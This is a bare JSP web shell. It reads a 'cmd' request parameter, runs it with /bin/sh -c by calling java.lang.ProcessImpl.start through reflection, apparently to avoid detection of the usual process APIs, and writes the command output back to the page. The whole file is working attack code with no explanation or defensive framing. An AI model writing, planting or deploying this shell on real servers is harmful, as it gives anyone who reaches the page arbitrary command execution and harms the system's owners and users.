<%@ page import="java.lang.reflect.Method,java.util.Map,java.io.*" %>
<%
String[] cmds = new String[]{"/bin/sh", "-c", request.getParameter("cmd")};
Class<?> clazz = Class.forName("java.lang.ProcessImpl");
Method start = clazz.getDeclaredMethod("start", String[].class, Map.class, String.class,
        ProcessBuilder.Redirect[].class, boolean.class);
start.setAccessible(true);
Process p = (Process) start.invoke(null, cmds, null, ".", null, true);
InputStream in = p.getInputStream();
ByteArrayOutputStream bo = new ByteArrayOutputStream();
byte[] buf = new byte[1024]; int n;
while ((n = in.read(buf)) != -1) bo.write(buf, 0, n);
out.print(bo.toString());
%>
